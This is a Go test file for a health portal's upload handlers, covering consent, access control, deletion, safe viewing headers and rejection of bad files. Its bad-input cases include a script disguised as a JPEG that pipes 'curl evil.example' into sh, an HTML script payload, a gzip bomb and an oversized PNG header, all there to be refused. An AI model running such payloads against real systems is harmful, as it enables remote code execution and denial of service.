package handlers_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io/fs"
	"mime/multipart"
	"net"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"gorm.io/gorm"

	"github.com/yibao-health/portal/internal/config"
	"github.com/yibao-health/portal/internal/db"
	"github.com/yibao-health/portal/internal/testkit/dbtest"
	"github.com/yibao-health/portal/internal/testkit/webclient"
	"github.com/yibao-health/portal/models"
)

// docApp is a test app with its data directory, for counting blobs.
type docApp struct {
	*testApp
	dir string
}

func newDocApp(t *testing.T, mod func(*config.Config)) *docApp {
	t.Helper()
	var dir string
	ta := newApp(t, func(c *config.Config) {
		if mod != nil {
			mod(c)
		}
		dir = c.DataDir
	})
	return &docApp{ta, dir}
}

// blobs lists every file under the blob directory, temporary files included.
func (da *docApp) blobs(t *testing.T) []string {
	t.Helper()
	var out []string
	_ = filepath.WalkDir(filepath.Join(da.dir, "blobs"), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out = append(out, p)
		}
		return nil
	})
	return out
}

// rows counts the rows of documents, document_files and pending_blobs.
func (da *docApp) rows(t *testing.T) (docs, files, pending int64) {
	t.Helper()
	da.db.Table("documents").Count(&docs)
	da.db.Table("document_files").Count(&files)
	da.db.Table("pending_blobs").Count(&pending)
	return
}

// nothingStored fails unless no document row, file row, pending row or blob exists.
func (da *docApp) nothingStored(t *testing.T, what string) {
	t.Helper()
	if d, f, p := da.rows(t); d+f+p != 0 {
		t.Errorf("%s: rows left: %d documents, %d files, %d pending", what, d, f, p)
	}
	if b := da.blobs(t); len(b) != 0 {
		t.Errorf("%s: blobs left: %v", what, b)
	}
}

// healthPatient registers a patient and gives the health-data consent through its page.
func (ta *testApp) healthPatient(t *testing.T, phone, username string) *webclient.Client {
	t.Helper()
	c := ta.registerPatient(t, phone, username)
	page := c.Get("/consents/health").Expect(http.StatusOK)
	c.SubmitForm(page.Form("/consents/health"), url.Values{"decision": {"accept"}}).Expect(http.StatusSeeOther)
	return c
}

// uploadFormOf returns the multipart form of a page.
func uploadFormOf(t *testing.T, r *webclient.Response) *webclient.Form {
	t.Helper()
	for _, f := range r.Forms() {
		if f.Enctype == "multipart/form-data" {
			return f
		}
	}
	t.Fatalf("%s (%d) has no upload form: %s", r.URL, r.Status, r.Text())
	return nil
}

func docFields(title string) url.Values {
	return url.Values{"category": {"lab"}, "title": {title}, "date": {"2026-03-01"}, "hospital": {"协和医院"}, "notes": {"空腹抽血"}}
}

// submitUpload loads the upload form and posts fields and files through it.
func submitUpload(t *testing.T, c *webclient.Client, fields url.Values, files ...webclient.File) *webclient.Response {
	t.Helper()
	page := c.Get("/health/documents/new").Expect(http.StatusOK)
	return c.SubmitFormFiles(uploadFormOf(t, page), fields, files...)
}

func docPDF(body string) []byte {
	return []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% " + body + "\ntrailer << /Root 1 0 R >>\n%%EOF\n")
}

func docJPEG(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x), uint8(y), 120, 255})
		}
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var documentPath = regexp.MustCompile(`^/health/documents/(\d+)$`)

// A PDF and a photo upload: the document page lists both, the photo has a
// server-made thumbnail, viewing sends the sniffed type with a sandboxing CSP,
// nosniff and no-store, and the download carries a server-made name encoded for
// the Chinese title.
// policy: C4.1-3
func TestDocumentUploadViewDownload(t *testing.T) {
	da := newDocApp(t, nil)
	c := da.healthPatient(t, "13800005001", "doc_user")
	pdf := docPDF("report body")
	photo := docJPEG(t, 800, 600)
	fields := docFields("血常规 2026/03")
	r := submitUpload(t, c, fields,
		webclient.File{Field: "files", Name: "report.pdf", ContentType: "application/pdf", Data: pdf},
		webclient.File{Field: "photo", Name: "IMG_0001.jpg", ContentType: "image/jpeg", Data: photo})
	if r.Status != http.StatusSeeOther || !documentPath.MatchString(r.Location()) {
		t.Fatalf("upload = %d %q: %s", r.Status, r.Location(), r.Text())
	}
	docURL := r.Location()
	page := c.Get(docURL).Expect(http.StatusOK)
	if !hasAll(page.Text(), "血常规 2026/03", "化验检查", "2026-03-01", "协和医院", "空腹抽血", "文件 1", "文件 2", "资料已上传") {
		t.Errorf("document page: %s", page.Text())
	}
	links := regexp.MustCompile(`/health/documents/\d+/files/\d+/(view|download|thumbnail)`).FindAllString(page.Body, -1)
	byKind := map[string][]string{}
	for _, l := range links {
		k := l[strings.LastIndex(l, "/")+1:]
		byKind[k] = append(byKind[k], l)
	}
	if len(byKind["view"]) != 2 || len(byKind["download"]) != 2 || len(byKind["thumbnail"]) != 1 {
		t.Fatalf("links: %v", byKind)
	}
	// The thumbnail is a JPEG of at most 320 px.
	th := c.Get(byKind["thumbnail"][0]).Expect(http.StatusOK)
	img, err := jpeg.Decode(strings.NewReader(th.Body))
	if err != nil || img.Bounds().Dx() != 320 || img.Bounds().Dy() != 240 || th.Header.Get("Content-Type") != "image/jpeg" {
		t.Errorf("thumbnail: %v %v %q", img.Bounds(), err, th.Header.Get("Content-Type"))
	}
	// Viewing: the exact bytes, the sniffed type, the headers.
	for i, want := range []struct {
		body []byte
		typ  string
	}{{pdf, "application/pdf"}, {photo, "image/jpeg"}} {
		v := c.Get(byKind["view"][i]).Expect(http.StatusOK)
		h := v.Header
		if v.Body != string(want.body) || h.Get("Content-Type") != want.typ || h.Get("X-Content-Type-Options") != "nosniff" ||
			h.Get("Cache-Control") != "no-store" || h.Get("Content-Encoding") != "" {
			t.Errorf("view %d: %q %q %q %q (len %d)", i, h.Get("Content-Type"), h.Get("X-Content-Type-Options"), h.Get("Cache-Control"), h.Get("Content-Encoding"), len(v.Body))
		}
		csp := h.Get("Content-Security-Policy")
		if !strings.HasPrefix(csp, "sandbox;") || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
			t.Errorf("view %d CSP: %q", i, csp)
		}
	}
	dl := c.Get(byKind["download"][0]).Expect(http.StatusOK)
	wantCD := `attachment; filename="document-1.pdf"; filename*=UTF-8''%E8%A1%80%E5%B8%B8%E8%A7%84%202026_03-1.pdf`
	if cd := dl.Header.Get("Content-Disposition"); cd != wantCD || dl.Body != string(pdf) {
		t.Errorf("download: %q (len %d), want %q", cd, len(dl.Body), wantCD)
	}
	if dl := c.Get(byKind["download"][1]); !strings.Contains(dl.Header.Get("Content-Disposition"), `filename="document-2.jpg"`) {
		t.Errorf("photo download: %q", dl.Header.Get("Content-Disposition"))
	}
	// The list shows it with its thumbnail.
	list := c.Get("/health/documents").Expect(http.StatusOK)
	if !list.HasText("血常规 2026/03") || !strings.Contains(list.Body, byKind["thumbnail"][0]) {
		t.Errorf("list: %s", list.Text())
	}
	if d, f, p := da.rows(t); d != 1 || f != 2 || p != 0 {
		t.Errorf("rows: %d %d %d", d, f, p)
	}
	if n := len(da.blobs(t)); n != 3 {
		t.Errorf("%d blobs, want 3", n)
	}
	var audits int64
	da.db.Model(&models.AuditEntry{}).Where("action = ?", "health.document.upload").Count(&audits)
	if audits != 1 {
		t.Errorf("%d upload audit rows", audits)
	}
}

// gzipOf is a gzip stream of n zero bytes: a few kilobytes that expand a thousandfold.
func gzipOf(n int) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(make([]byte, n))
	_ = w.Close()
	return b.Bytes()
}

// pngClaiming is a valid PNG header that claims w×h pixels (a decompression bomb's front).
func pngClaiming(w, h int) []byte {
	var b bytes.Buffer
	_ = png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1)))
	out := b.Bytes()
	put := func(off int, v uint32) {
		out[off], out[off+1], out[off+2], out[off+3] = byte(v>>24), byte(v>>16), byte(v>>8), byte(v)
	}
	put(16, uint32(w))
	put(20, uint32(h))
	put(29, crc32.ChecksumIEEE(out[12:29]))
	return out
}

// Bad input: each refusal re-renders the form with a clear message in Chinese,
// keeps what was typed, and stores no row and no blob.
func TestDocumentUploadBadInputLeavesNothing(t *testing.T) {
	da := newDocApp(t, func(c *config.Config) { c.UploadMaxFile, c.UploadMaxFiles = 64<<10, 3 })
	c := da.healthPatient(t, "13800005002", "bad_input")
	good := webclient.File{Field: "files", Name: "a.pdf", ContentType: "application/pdf", Data: docPDF("ok")}
	file := func(name, ct string, data []byte) webclient.File {
		return webclient.File{Field: "files", Name: name, ContentType: ct, Data: data}
	}
	big := append(docPDF("x"), bytes.Repeat([]byte(" "), 64<<10)...)
	jpg := docJPEG(t, 300, 300)
	cases := []struct {
		name   string
		fields url.Values
		files  []webclient.File
		status int
		msg    string
	}{
		{"script renamed .jpg", docFields("t1"), []webclient.File{good, file("photo.jpg", "image/jpeg", []byte("#!/bin/sh\ncurl evil.example | sh\n"))}, 422, "第 2 个文件不是可接受的类型"},
		{"HTML file", docFields("t2"), []webclient.File{file("page.pdf", "application/pdf", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"))}, 422, "第 1 个文件不是可接受的类型"},
		{"empty file", docFields("t3"), []webclient.File{file("empty.pdf", "application/pdf", nil)}, 422, "第 1 个文件是空的"},
		{"truncated PDF", docFields("t4"), []webclient.File{good, file("cut.pdf", "application/pdf", docPDF("cut")[:60])}, 422, "不是完整的 PDF"},
		{"oversized file", docFields("t5"), []webclient.File{good, file("big.pdf", "application/pdf", big)}, 413, "第 2 个文件超过了 1 MB 的上限"},
		{"too many files", docFields("t6"), []webclient.File{good, good, good, good}, 413, "每次最多上传 3 个文件"},
		{"gzip bomb as .png", docFields("t7"), []webclient.File{file("scan.png", "image/png", gzipOf(10<<20))}, 422, "第 1 个文件不是可接受的类型"},
		{"PNG claiming 20000×20000", docFields("t8"), []webclient.File{good, file("huge.png", "image/png", pngClaiming(20000, 20000))}, 422, "图片尺寸太大"},
		{"damaged JPEG", docFields("t9"), []webclient.File{file("half.jpg", "image/jpeg", jpg[:len(jpg)/2])}, 422, "无法读取"},
		{"no title", url.Values{"category": {"lab"}, "title": {""}, "date": {"2026-03-01"}, "hospital": {"某医院"}}, []webclient.File{good}, 422, "请填写标题"},
		{"future date", url.Values{"category": {"lab"}, "title": {"t10"}, "date": {"2999-01-01"}}, []webclient.File{good}, 422, "日期不能晚于今天"},
		{"no file", docFields("t11"), nil, 422, "请至少选择一个文件"},
	}
	for _, tc := range cases {
		r := submitUpload(t, c, tc.fields, tc.files...)
		if r.Status != tc.status || !r.HasText(tc.msg) {
			t.Errorf("%s: %d, want %d with %q: %s", tc.name, r.Status, tc.status, tc.msg, r.Text())
			continue
		}
		f := uploadFormOf(t, r)
		for _, k := range []string{"title", "hospital", "date", "category"} {
			if f.Value(k) != tc.fields.Get(k) {
				t.Errorf("%s: %s = %q, typed %q", tc.name, k, f.Value(k), tc.fields.Get(k))
			}
		}
		da.nothingStored(t, tc.name)
	}

	// A body declared larger than the upload's cap is refused before it is read.
	page := c.Get("/health/documents/new")
	action := uploadFormOf(t, page).Action
	body, ctype := multipartBody(t, docFields("t12"), good)
	padded := append(body, make([]byte, 3*(64<<10)+2<<20)...)
	req, _ := http.NewRequest(http.MethodPost, da.url+action, bytes.NewReader(padded))
	req.Header.Set("Content-Type", ctype)
	req.Header.Set("Origin", da.url)
	if resp, err := c.HTTP.Do(req); err == nil { // the server may close before the client has sent it all
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("declared too large: %d", resp.StatusCode)
		}
	}
	da.nothingStored(t, "declared too large")

	// A text field after a file is a malformed upload.
	body, ctype = multipartOrdered(t, []part{{name: "category", value: "lab"}, {name: "files", file: "a.pdf", data: docPDF("a")}, {name: "title", value: "late"}, {name: "date", value: "2026-01-01"}})
	r := c.Do(http.MethodPost, action, ctype, bytes.NewReader(body))
	if r.Status != http.StatusBadRequest && r.Status != http.StatusUnprocessableEntity {
		t.Errorf("field after file: %d", r.Status)
	}
	da.nothingStored(t, "field after file")

	// Without the token (neither header nor query) the upload is refused.
	body, ctype = multipartBody(t, docFields("t13"), good)
	if r := c.Do(http.MethodPost, "/health/documents", ctype, bytes.NewReader(body)); r.Status != http.StatusForbidden {
		t.Errorf("no CSRF token: %d", r.Status)
	}
	if r := c.Do(http.MethodPost, "/health/documents?_csrf=forged", ctype, bytes.NewReader(body)); r.Status != http.StatusForbidden {
		t.Errorf("forged CSRF token: %d", r.Status)
	}
	da.nothingStored(t, "CSRF")
	// The header works as well as the query (the JavaScript path).
	tok := strings.TrimPrefix(action, "/health/documents?_csrf=")
	tok, _ = url.QueryUnescape(tok)
	r = c.Do(http.MethodPost, "/health/documents", ctype, bytes.NewReader(body), http.Header{"X-Csrf-Token": {tok}})
	if r.Status != http.StatusSeeOther {
		t.Errorf("header token: %d %s", r.Status, r.Text())
	}
}

// part is one part of a hand-made multipart body.
type part struct {
	name, value, file string
	data              []byte
}

func multipartOrdered(t *testing.T, parts []part) ([]byte, string) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for _, p := range parts {
		if p.file == "" {
			_ = mw.WriteField(p.name, p.value)
			continue
		}
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q; filename=%q`, p.name, p.file))
		h.Set("Content-Type", "application/octet-stream")
		w, _ := mw.CreatePart(h)
		_, _ = w.Write(p.data)
	}
	_ = mw.Close()
	return b.Bytes(), mw.FormDataContentType()
}

// multipartBody is fields (in the form's order) then files, as a browser sends them.
func multipartBody(t *testing.T, fields url.Values, files ...webclient.File) ([]byte, string) {
	t.Helper()
	var parts []part
	for _, k := range []string{"category", "title", "date", "hospital", "notes"} {
		if v, ok := fields[k]; ok {
			parts = append(parts, part{name: k, value: v[0]})
		}
	}
	for _, f := range files {
		parts = append(parts, part{name: f.Field, file: f.Name, data: f.Data})
	}
	return multipartOrdered(t, parts)
}

// The separate health-data consent comes first: without it the form sends the
// patient to the consent page and a posted upload is refused with nothing
// stored; after a withdrawal uploads stop again.
// policy: C1.3
func TestDocumentUploadNeedsHealthConsent(t *testing.T) {
	da := newDocApp(t, nil)
	c := da.registerPatient(t, "13800005003", "no_consent")
	r := c.Get("/health/documents/new")
	if r.Status != http.StatusSeeOther || r.Location() != "/consents/health?next=%2Fhealth%2Fdocuments%2Fnew" {
		t.Fatalf("form without consent: %d %s", r.Status, r.Location())
	}
	if !c.Get("/health/documents").Expect(http.StatusOK).HasText("需要您单独同意") {
		t.Error("list does not explain the consent")
	}
	tok := c.Cookie("csrf").Value
	body, ctype := multipartBody(t, docFields("x"), webclient.File{Field: "files", Name: "a.pdf", Data: docPDF("a")})
	r = c.Do(http.MethodPost, "/health/documents?_csrf="+url.QueryEscape(tok), ctype, bytes.NewReader(body))
	if r.Status != http.StatusForbidden || !r.HasText("尚未同意") {
		t.Errorf("upload without consent: %d %s", r.Status, r.Text())
	}
	da.nothingStored(t, "no consent")

	// Given through the page (next leads back to the form), then withdrawn.
	page := c.Get("/consents/health?next=/health/documents/new")
	r = c.SubmitForm(page.Form("/consents/health"), url.Values{"decision": {"accept"}})
	if r.Location() != "/health/documents/new" {
		t.Fatalf("after consent: %s", r.Location())
	}
	submitUpload(t, c, docFields("before withdrawal"), webclient.File{Field: "files", Name: "a.pdf", Data: docPDF("a")}).Expect(http.StatusSeeOther)
	form := uploadFormOf(t, c.Get("/health/documents/new"))
	changeThroughPages(t, c, models.PurposeHealthData)
	r = c.SubmitFormFiles(form, docFields("after withdrawal"), webclient.File{Field: "files", Name: "b.pdf", Data: docPDF("b")})
	if r.Status != http.StatusForbidden || !r.HasText("已撤回") {
		t.Errorf("upload after withdrawal: %d %s", r.Status, r.Text())
	}
	if d, f, p := da.rows(t); d != 1 || f != 1 || p != 0 {
		t.Errorf("rows after the refused upload: %d %d %d", d, f, p)
	}
	if n := len(da.blobs(t)); n != 1 {
		t.Errorf("%d blobs, want the first upload's 1", n)
	}
}

// Another patient gets 404 for every route of a document that is not theirs,
// and does not see it listed; the owner sees it.
// policy: C4.1-4
func TestDocumentsOfAnotherPatientAreNotFound(t *testing.T) {
	da := newDocApp(t, nil)
	owner := da.healthPatient(t, "13800005004", "owner_a")
	r := submitUpload(t, owner, docFields("私人报告"), webclient.File{Field: "files", Name: "a.jpg", Data: docJPEG(t, 40, 40)})
	doc := r.Location()
	page := owner.Get(doc).Expect(http.StatusOK)
	fileBase := regexp.MustCompile(`/health/documents/\d+/files/\d+`).FindString(page.Body)
	other := da.healthPatient(t, "13800005005", "other_b")
	for _, p := range []string{doc, doc + "/delete", fileBase + "/view", fileBase + "/download", fileBase + "/thumbnail"} {
		if r := other.Get(p); r.Status != http.StatusNotFound {
			t.Errorf("GET %s by another patient: %d", p, r.Status)
		}
		if r := owner.Get(p); r.Status != http.StatusOK {
			t.Errorf("GET %s by the owner: %d", p, r.Status)
		}
	}
	if r := other.Get("/health/documents"); r.Status != http.StatusOK || r.HasText("私人报告") {
		t.Error("listed for another patient")
	}
	tok := other.Cookie("csrf").Value
	if r := other.Do(http.MethodPost, doc+"/delete", "application/x-www-form-urlencoded", strings.NewReader("_csrf="+url.QueryEscape(tok)),
		http.Header{"Origin": {da.url}}); r.Status != http.StatusNotFound {
		t.Errorf("POST delete by another patient: %d", r.Status)
	}
	if d, _, _ := da.rows(t); d != 1 {
		t.Error("document gone")
	}
	// Visitors are sent to sign in; the file routes are not public.
	if r := webclient.New(t, da.url).Get(fileBase + "/view"); r.Status != http.StatusSeeOther || !strings.HasPrefix(r.Location(), "/login") {
		t.Errorf("visitor: %d %s", r.Status, r.Location())
	}
}

// Deleting needs the confirmation page's POST; it removes the rows (the keys
// with them) and the blobs, and is audited.
func TestDocumentDeleteRemovesBlobsAndKeys(t *testing.T) {
	da := newDocApp(t, nil)
	c := da.healthPatient(t, "13800005006", "deleter")
	doc := submitUpload(t, c, docFields("to delete"),
		webclient.File{Field: "files", Name: "a.pdf", Data: docPDF("a")},
		webclient.File{Field: "files", Name: "b.jpg", Data: docJPEG(t, 60, 60)}).Location()
	if n := len(da.blobs(t)); n != 3 {
		t.Fatalf("%d blobs before", n)
	}
	confirm := c.Get(doc + "/delete").Expect(http.StatusOK)
	if !confirm.HasText("无法恢复") {
		t.Errorf("confirmation: %s", confirm.Text())
	}
	if d, _, _ := da.rows(t); d != 1 {
		t.Fatal("the confirmation page deleted something")
	}
	r := c.SubmitForm(confirm.Form(doc+"/delete"), nil)
	if r.Status != http.StatusSeeOther || r.Location() != "/health/documents" {
		t.Fatalf("delete = %d %s", r.Status, r.Location())
	}
	da.nothingStored(t, "after delete")
	if !c.Get("/health/documents").HasText("已一并销毁") {
		t.Error("no notice after delete")
	}
	if c.Get(doc).Status != http.StatusNotFound {
		t.Error("document still there")
	}
	var n int64
	da.db.Model(&models.AuditEntry{}).Where("action = ?", "health.document.delete").Count(&n)
	if n != 1 {
		t.Errorf("%d delete audit rows", n)
	}
}

// A client that goes away in the middle of a file leaves no row and no blob
// (not even the store's temporary file).
func TestDocumentUploadClientGoneLeavesNothing(t *testing.T) {
	da := newDocApp(t, nil)
	c := da.healthPatient(t, "13800005007", "goner")
	action := uploadFormOf(t, c.Get("/health/documents/new")).Action
	body, ctype := multipartBody(t, docFields("gone"), webclient.File{Field: "files", Name: "a.pdf",
		Data: append(docPDF("x"), bytes.Repeat([]byte("y"), 3<<20)...)})
	u, _ := url.Parse(da.url)
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	var cookies []string
	for _, ck := range c.HTTP.Jar.Cookies(u) {
		cookies = append(cookies, ck.Name+"="+ck.Value)
	}
	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nCookie: %s\r\nOrigin: %s\r\n\r\n",
		action, u.Host, ctype, len(body), strings.Join(cookies, "; "), da.url)
	_, _ = conn.Write(body[:len(body)/2]) // half of the file, then gone
	for start := time.Now(); ; time.Sleep(10 * time.Millisecond) {
		if _, _, p := da.rows(t); p == 1 { // the blob is being written
			break
		}
		if time.Since(start) > 5*time.Second {
			t.Fatal("the upload never started writing its blob")
		}
	}
	conn.Close()
	deadline := time.Now().Add(5 * time.Second)
	for {
		d, f, p := da.rows(t)
		if d+f+p == 0 && len(da.blobs(t)) == 0 {
			break
		}
		if time.Now().After(deadline) {
			da.nothingStored(t, "client gone")
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// Canaries in every field and in a file: neither the raw SQLite file (WAL
// checkpointed), a dump of the MySQL tables nor the blob directory holds any.
// policy: C4.1-3
func TestDocumentCanariesNeverStoredInClear(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, g *gorm.DB, d db.Dialect) {
		cfg, err := config.FromEnv(func(string) string { return "" })
		if err != nil {
			t.Fatal(err)
		}
		cfg.DataDir = t.TempDir()
		da := &docApp{startApp(t, cfg, g), cfg.DataDir}
		c := da.healthPatient(t, "13800005008", "canary_user")
		fields := url.Values{"category": {"imaging"}, "title": {"CANARY-TITLE-7f3a 胸片"}, "date": {"2026-02-02"},
			"hospital": {"CANARY-HOSPITAL-7f3a"}, "notes": {"CANARY-NOTES-7f3a 肺结节"}}
		submitUpload(t, c, fields,
			webclient.File{Field: "files", Name: "CANARY-NAME-7f3a.pdf", Data: docPDF("CANARY-FILE-7f3a")},
			webclient.File{Field: "files", Name: "x.jpg", Data: docJPEG(t, 64, 64)}).Expect(http.StatusSeeOther)
		var raw []byte
		if d == db.SQLite {
			var file string
			if err := g.Exec("PRAGMA wal_checkpoint(TRUNCATE)").Error; err != nil {
				t.Fatal(err)
			}
			if err := g.Raw("SELECT file FROM pragma_database_list WHERE name = 'main'").Scan(&file).Error; err != nil || file == "" {
				t.Fatalf("database file: %v", err)
			}
			for _, f := range []string{file, file + "-wal"} {
				b, _ := os.ReadFile(f)
				raw = append(raw, b...)
			}
			if len(raw) == 0 {
				t.Fatal("empty database file")
			}
		} else {
			for _, table := range []string{"documents", "document_files", "pending_blobs", "audit_log"} {
				var rows []map[string]any
				if err := g.Table(table).Find(&rows).Error; err != nil {
					t.Fatal(err)
				}
				raw = append(raw, fmt.Sprint(rows)...)
			}
		}
		blobs := da.blobs(t)
		if len(blobs) != 3 {
			t.Fatalf("%d blobs", len(blobs))
		}
		for _, f := range blobs {
			b, _ := os.ReadFile(f)
			raw = append(raw, b...)
		}
		for _, canary := range []string{"CANARY", "7f3a", "胸片", "肺结节"} {
			if bytes.Contains(raw, []byte(canary)) {
				t.Errorf("%s: %q stored in clear", d, canary)
			}
		}
	})
}

// The list pages and filters through its query; a bad date is a message, not a 500.
func TestDocumentListFilters(t *testing.T) {
	da := newDocApp(t, nil)
	c := da.healthPatient(t, "13800005009", "lister")
	for i, cat := range []string{"lab", "imaging", "lab"} {
		f := url.Values{"category": {cat}, "title": {fmt.Sprintf("doc-%d", i)}, "date": {fmt.Sprintf("2026-01-0%d", i+1)}}
		submitUpload(t, c, f, webclient.File{Field: "files", Name: "a.pdf", Data: docPDF("a")}).Expect(http.StatusSeeOther)
	}
	r := c.Get("/health/documents?category=lab").Expect(http.StatusOK)
	if !r.HasText("doc-0") || !r.HasText("doc-2") || r.HasText("doc-1") {
		t.Errorf("category filter: %s", r.Text())
	}
	r = c.Get("/health/documents?from=2026-01-02&to=2026-01-02").Expect(http.StatusOK)
	if !r.HasText("doc-1") || r.HasText("doc-0") || r.HasText("doc-2") {
		t.Errorf("date filter: %s", r.Text())
	}
	r = c.Get("/health/documents?from=yesterday")
	if r.Status != http.StatusUnprocessableEntity || !r.HasText("年-月-日") {
		t.Errorf("bad date: %d %s", r.Status, r.Text())
	}
	if r := c.Get("/health/documents/notanumber"); r.Status != http.StatusNotFound {
		t.Errorf("bad id: %d", r.Status)
	}
}

// A DICOM file is accepted by its content, is not shown inline (browsers cannot)
// and downloads as document.dcm with application/dicom.
func TestDocumentDICOMDownloadOnly(t *testing.T) {
	da := newDocApp(t, nil)
	c := da.healthPatient(t, "13800005010", "dicom_user")
	dicom := append(make([]byte, 128), []byte("DICM\x02\x00\x00\x00UL\x04\x00\x00\x00\x00\x00")...)
	doc := submitUpload(t, c, docFields("MRI"), webclient.File{Field: "files", Name: "IM0001", Data: dicom}).Location()
	page := c.Get(doc).Expect(http.StatusOK)
	base := regexp.MustCompile(`/health/documents/\d+/files/\d+`).FindString(page.Body)
	if strings.Contains(page.Body, base+"/view") || strings.Contains(page.Body, base+"/thumbnail") || !page.HasText("DICOM 影像") {
		t.Errorf("DICOM offered inline: %s", page.Text())
	}
	if r := c.Get(base + "/view"); r.Status != http.StatusNotFound {
		t.Errorf("view DICOM: %d", r.Status)
	}
	r := c.Get(base + "/download").Expect(http.StatusOK)
	if r.Header.Get("Content-Type") != "application/dicom" || r.Body != string(dicom) ||
		r.Header.Get("Content-Disposition") != `attachment; filename="document.dcm"; filename*=UTF-8''MRI.dcm` {
		t.Errorf("download: %q %q", r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"))
	}
}
